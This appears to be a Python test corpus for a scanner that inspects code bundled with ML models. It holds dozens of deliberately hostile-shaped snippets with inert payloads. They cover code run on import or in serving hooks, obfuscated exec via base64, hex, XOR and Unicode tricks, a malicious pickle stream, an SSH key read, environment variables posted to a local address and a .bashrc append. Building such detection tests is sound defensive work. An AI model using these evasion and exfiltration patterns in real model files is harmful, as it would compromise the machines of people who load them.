"""Python that ships with a model and does more than define it, on import or when the model is loaded. Never run here.

The payloads are inert: a command that does nothing, or an address of this machine.
"""

from __future__ import annotations

import base64
import json
import zlib

from corpora.case import Case, hostile

_HARM = 'import os\nos.system("true")\n'
_PACKED = base64.b64encode(zlib.compress(_HARM.encode())).decode()
_HEX = _HARM.encode().hex()
_NUMBERS = ", ".join(str(byte ^ 7) for byte in _HARM.encode())
_ROT = _HARM.translate(str.maketrans("abcdefghijklmnopqrstuvwxyz", "nopqrstuvwxyzabcdefghijklm"))
_MODULE = "import torch\nfrom torch import nn\n\n\nclass Net(nn.Module):\n"

IMPORT = {
    "module-level": _HARM,
    "renamed": 'import os as numpy\nrun = numpy.system\nrun("true")\n',
    "from-import": 'from subprocess import check_output as relu\nrelu(["true"])\n',
    "star-import": 'from os import *\nsystem("true")\n',
    "class-body": 'class Net:\n    import subprocess\n    subprocess.run(["true"])\n',
    "default-value": 'import os\ndef forward(x, y=os.system("true")):\n    return x\n',
    "decorator": 'import os\n@lambda f: os.system("true") and f\ndef forward(x):\n    return x\n',
    "annotation": 'import os\nx: os.system("true") = 1\n',
    "metaclass": 'import os\nclass Meta(type):\n    def __new__(mcs, *a):\n        os.system("true")\n'
    "        return super().__new__(mcs, *a)\nclass Net(metaclass=Meta):\n    pass\n",
    "init-subclass": 'import os\nclass Base:\n    def __init_subclass__(cls):\n        os.system("true")\n'
    "class Net(Base):\n    pass\n",
    "set-name": 'import os\nclass D:\n    def __set_name__(self, o, n):\n        os.system("true")\nclass Net:\n    d = D()\n',  # noqa: E501
    "called-function": 'import os\ndef prepare():\n    helper()\ndef helper():\n    os.system("true")\nprepare()\n',
    "handed-over": 'import os\nlist(map(os.system, ["true"]))\n',
    "argument": 'import os\ndef f(m):\n    m.system("true")\nf(os)\n',
    "result": 'import os\ndef f():\n    return os\nf().system("true")\n',
    "container": 'import os\nt = {"a": [os]}\nt["a"][0].system("true")\n',
    "modules-table": 'import sys, os\nsys.modules["os"].system("true")\n',
    "through-a-library": 'import torch\ntorch.serialization.os.system("true")\n',
    "builtins-table": '__builtins__["exec"]("1")\n',
    "inherited": 'import subprocess\nclass P(subprocess.Popen):\n    pass\nP(["true"])\n',
    "module-getattr": 'import os\ndef __getattr__(name):\n    os.system("true")\n',
    "faked-main-guard": 'import os\n__name__ = "__main__"\nif __name__ == "__main__":\n    os.system("true")\n',
    "else-of-main-guard": 'import os\nif __name__ == "__main__":\n    pass\nelse:\n    os.system("true")\n',
    "try-except": 'try:\n    import missing_thing\nexcept ImportError:\n    import os\n    os.system("true")\n',
    "socket": 'import socket\ns = socket.socket()\ns.connect(("127.0.0.1", 9))\n',
    "post": 'import urllib.request as u\nu.urlopen("http://127.0.0.1:9")\n',
    "deletes": 'import shutil\nshutil.rmtree("/tmp/nothing-here")\n',
    "reads-keys": 'import os\nopen(os.path.expanduser("~/.ssh/id_rsa")).read()\n',
    "in-a-lambda": 'import os\n(lambda f: f("true"))(os.system)\n',
    "match": 'import os\nmatch os:\n    case m:\n        m.system("true")\n',
    "at-exit": 'import atexit, os\n@atexit.register\ndef f():\n    os.system("true")\n',
    "enumerated": 'import os\nfor i, m in enumerate([os]):\n    m.system("true")\n',
    "spread-arguments": 'import os\ndef f(*a):\n    a[0].system("true")\nf(os)\n',
    "yielded": 'import os\ndef g():\n    yield os\nfor m in g():\n    m.system("true")\n',
    "assigned-by-a-function": 'import os\nf = None\ndef s():\n    global f\n    f = os.system\ns()\nf("true")\n',
    "operator-of-an-instance": 'import os\nclass A:\n    def __add__(self, o):\n        os.system("true")\nA() + 1\n',
    "through-numpy": 'import numpy as np\nnp.os.system("true")\n',
    "memory-of-the-process": 'open("/proc/self/mem", "rb").read(1)\n',
    "pip": 'import pip\npip.main(["--version"])\n',
}

HIDDEN = {
    "base64-exec": f'import base64, zlib\nexec(zlib.decompress(base64.b64decode("{_PACKED}")))\n',
    "hex-exec": f'exec(bytes.fromhex("{_HEX}").decode())\n',
    "xor-exec": f"exec(bytes(c ^ 7 for c in [{_NUMBERS}]).decode())\n",
    "chr-join": 'import os\ngetattr(os, "".join(chr(c) for c in [115, 121, 115, 116, 101, 109]))("true")\n',
    "reversed": 'import os\ngetattr(os, "metsys"[::-1])("true")\n',
    "format": 'import os\ngetattr(os, "{}{}".format("sys", "tem"))("true")\n',
    "pieces-added": 'import os\nn = "sys"\nn += "tem"\ngetattr(os, "" + n)("true")\n',
    "imported-by-pieces": 'm = __import__("sub" + "process")\nm.run(["true"])\n',
    "rot13": f"import codecs\nexec(codecs.decode({_ROT!r}, 'rot13'))\n",
    "codec-method": f"code = bytes.fromhex('{_HEX}')\nrun = eval('ex' + 'ec')\nrun(code)\n",
    "in-steps": f'import base64 as b\nblob = "{_PACKED}"\nraw = b.b64decode(blob)\nimport zlib as z\ntext = z.decompress(raw)\n'  # noqa: E501
    "def go(t):\n    exec(t)\ngo(text)\n",
    "encoding-cookie": "# -*- coding: utf-7 -*-\nx = 1\n",
    "letters": "import os\n\U0001d4f8\U0001d4fc.\U0001d4fc\U0001d502\U0001d4fc\U0001d4fd\U0001d4ee\U0001d4f6('true')\n",
}

USED = {
    "forward": f'{_MODULE}    def forward(self, x):\n        __import__("os").system("true")\n        return x\n',
    "init": f'{_MODULE}    def __init__(self):\n        import subprocess\n        subprocess.Popen(["true"])\n',
    "helper-of-forward": f"import os\n{_MODULE}    def forward(self, x):\n        return self.step(x)\n\n"
    '    def step(self, x):\n        os.system("true")\n        return x\n',
    "kept-on-self": f"import os\n{_MODULE}    def __init__(self):\n        self.f = os.popen\n\n"
    '    def forward(self, x):\n        return self.f("true")\n',
    "eval-in-forward": f'{_MODULE}    def forward(self, x, expression="1"):\n        return eval(expression)\n',
    "native": 'import ctypes\n\n\ndef load_model(path):\n    return ctypes.CDLL("./x.so")\n',
    "endpoint": 'import os\n\n\nclass EndpointHandler:\n    def __init__(self, path=""):\n        os.system("true")\n',
    "sagemaker": 'import subprocess\n\n\ndef model_fn(folder):\n    subprocess.run(["true"])\n',
    "triton": 'import os\n\n\nclass TritonPythonModel:\n    def initialize(self, args):\n        os.system("true")\n',
    "mlflow": 'import os\n\n\nclass M:\n    def load_context(self, context):\n        os.system("true")\n',
    "dataset": 'import os\n\n\nclass D:\n    def _generate_examples(self, path):\n        os.system("true")\n        yield 0, {}\n',  # noqa: E501
    "environment": 'import os, requests\n\n\ndef predict(x):\n    requests.post("http://127.0.0.1:9", json=dict(os.environ))\n',  # noqa: E501
    "startup-file": 'import os\n\n\ndef build(x):\n    with open(os.path.expanduser("~/.bashrc"), "a") as f:\n        f.write("true")\n',  # noqa: E501
}

REVIEWED = {
    "unparsable": "def f(:\n",
    "bidi": "access = 1  # \u202e } \u2066 if admin\n",
    "computed-import": "import importlib\n\n\ndef load_x(name):\n    return importlib.import_module(name)\n",
    "unpickles": 'import pickle\n\n\ndef load(path):\n    return pickle.load(open(path, "rb"))\n',
    "never-called": 'import os\n\n\ndef f():\n    os.system("true")\n',
}

STREAM = "import pickle\npickle.loads(b\"cos\\nsystem\\n(S'true'\\ntR.\")\n"

FILES: dict[str, tuple[str, str, str]] = {
    "setup": (
        "setup.py",
        'import os\nfrom setuptools import setup\nos.system("true")\nsetup(name="x")\n',
        "code-on-import",
    ),
    "pickle-in-source": ("modeling.py", STREAM, "pickle-global-dangerous"),
    "path-file": ("x.pth", 'import os; os.system("true")\n', "code-on-import"),
    "site": ("sitecustomize.py", "x = 1\n", "code-on-import"),
    "notebook": (
        "a.ipynb",
        json.dumps(
            {
                "cells": [
                    {"cell_type": "code", "source": ["import os\n", "os.system('true')\n"], "outputs": []}
                ],
                "nbformat": 4,
                "nbformat_minor": 5,
                "metadata": {},
            }
        ),
        "code-on-import",
    ),
}


def _cases(kind: str, texts: dict[str, str], rules: tuple[str, ...], how: str) -> list[Case]:
    return [
        hostile(
            f"code-{kind}-{name}",
            "modeling_net.py",
            lambda _f, t=text: t.encode(),  # type: ignore[misc]
            f"{how}: {name.replace('-', ' ')}",
            rules,
            "review" if kind == "reviewed" else "reject",
        )
        for name, text in texts.items()
    ]


def cases() -> list[Case]:
    """What runs on import, what hides, what runs in use, what a person has to read, and files of other names."""
    found = _cases("import", IMPORT, ("code-on-import",), "runs when it is imported")
    found += _cases("hidden", HIDDEN, ("code-obfuscated", "code-on-import"), "hides what it runs")
    found += _cases(
        "used", USED, ("code-on-use", "code-secrets", "code-persistence"), "runs when the model is used"
    )
    found += _cases(
        "reviewed", REVIEWED, ("code-capability", "code-unparsable", "code-hidden-text"), "to be read"
    )
    found += [
        hostile(f"code-file-{name}", file, lambda _f, t=text: t.encode(), f"code in {file}", (rule,))  # type: ignore[misc]
        for name, (file, text, rule) in FILES.items()
    ]
    return found
